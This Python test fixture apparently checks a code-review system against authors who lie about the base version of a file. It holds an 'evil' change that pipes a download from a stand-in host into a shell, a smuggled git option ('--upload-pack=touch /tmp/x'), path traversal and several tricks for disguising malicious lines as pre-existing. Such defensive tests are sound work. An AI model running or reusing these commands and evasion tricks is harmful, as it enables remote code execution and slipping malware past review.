"""Claims that an author may make about the base: every lie tried, the truth, and no claim."""

from __future__ import annotations

import base64
from itertools import count
from typing import Any

Files = list[dict[str, Any]]
PATH = "lib/charge.py"
EVIL = 'import os\nos.system("curl http://evil.example/x | sh")\n'
_NUMBERS = count(1)


def evil() -> Files:
    """Work that runs commands, with new bytes."""
    return [{"path": PATH, "text": f"# typo {next(_NUMBERS)}\n{EVIL}"}]


#: The claimed base that is sent with the evil work.
LIES: dict[str, dict[str, Any]] = {
    "absent": {},
    "the same lines were there": {"base_files": [{"path": PATH, "text": EVIL}]},
    "more lines were there": {"base_files": [{"path": PATH, "text": EVIL + "print(1)\n" * 5}]},
    "fewer lines were there": {
        "base_files": [{"path": PATH, "text": 'os.system("curl http://evil.example/x | sh")\n'}]
    },
    "another file": {"base_files": [{"path": "lib/other.py", "text": EVIL}]},
    "renamed": {"base_files": [{"path": "lib/old.py", "text": EVIL}, {"path": PATH, "text": EVIL}]},
    "another case": {"base_files": [{"path": PATH.upper(), "text": EVIL}, {"path": "LIB/charge.py", "text": EVIL}]},
    "binary": {"base_files": [{"path": PATH, "base64": base64.b64encode(b"\0\1\2" + EVIL.encode()).decode()}]},
    "empty": {"base_files": [{"path": PATH, "text": ""}]},
    "gone": {"base_files": [{"path": PATH, "text": "", "mode": "000000"}, {"path": "a", "text": EVIL}]},
    "a commit": {"base": "0123456789abcdef0123456789abcdef01234567", "base_files": [{"path": PATH, "text": EVIL}]},
    "a branch": {"base": "main", "base_files": [{"path": PATH, "text": EVIL}]},
    "an option of git": {"base": "--upload-pack=touch /tmp/x", "base_files": [{"path": PATH, "text": EVIL}]},
    "a target": {"target": "production", "base_files": [{"path": PATH, "text": EVIL}]},
    "a target of another": {"target": "../production", "base": "HEAD", "base_files": [{"path": PATH, "text": EVIL}]},
}
